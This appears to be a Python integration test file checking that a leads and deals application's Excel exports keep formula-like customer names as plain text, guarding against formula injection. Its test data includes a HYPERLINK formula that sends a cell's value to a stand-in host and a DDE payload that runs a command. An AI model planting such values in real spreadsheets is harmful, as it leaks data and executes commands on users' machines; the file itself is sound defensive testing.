"""Every export writes user text as string cells: a customer named `=HYPERLINK(...)` or
`=cmd|...` stays text in the visit and call registers, the grade sheet and the deal reports
(OWASP formula injection), on PostgreSQL."""
import base64
import io

import pytest
from openpyxl import load_workbook

from contracts.base import load
from contracts.leads import ExportSchema, GradeCustomerSchema
from services.leads import exports, follow_up
from services.transactions import deals
from tests.integration.test_leads_registration import call, office_with, visit
from tests.integration.test_transactions_sales import confirmed_order, new_project

pytestmark = pytest.mark.integration

LINK = '=HYPERLINK("http://x.example/?q="&C2,"查看")'
COMMAND = "=cmd|' /C calc'!A0"


def formula_free(content: bytes, texts) -> None:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    found = {cell.value: cell.data_type for cell in cells if cell.value in texts}
    assert found == {text: "s" for text in texts}, found


@pytest.mark.parametrize("kind", ["visits", "calls", "grades"])
def test_the_leads_registers_keep_formula_like_names_as_text(stores, kind):
    store = stores["leads"]
    office_id, _ = office_with(store, [COMMAND])
    seen = visit(store, office_id, name=LINK, notes=COMMAND, address=COMMAND)["customer"]
    call(store, office_id, name=COMMAND, ad_medium=LINK, residence_area=LINK)
    with store() as uow:
        follow_up.grade_customer(uow, load(GradeCustomerSchema(), {
            "customer_id": seen["id"], "grade": "B", "changed_by": "consultant"}))
    cmd = load(ExportSchema(), {"exported_by": "manager", "kind": kind, "office_id": office_id,
                                "viewer_sees_all": True})
    with store() as uow:
        result = exports.export(uow, cmd)
    formula_free(base64.b64decode(result["content"]), {"visits": (LINK, COMMAND),
                                                       "calls": (COMMAND,),
                                                       "grades": (LINK, COMMAND)}[kind])


def test_the_deal_reports_keep_formula_like_names_as_text(stores):
    store = stores["transactions"]
    project = new_project()
    form = confirmed_order(store, project, customer_name=COMMAND)
    boxes = [{"deposit_id": form["deposit_id"], "customer": {"occupation": LINK},
              "property": {"location": COMMAND, "layout": LINK}}]
    with store() as uow:
        file = deals.deal_reports_file(uow.session, project, boxes)
    formula_free(base64.b64decode(file["content_base64"]), (LINK, COMMAND))
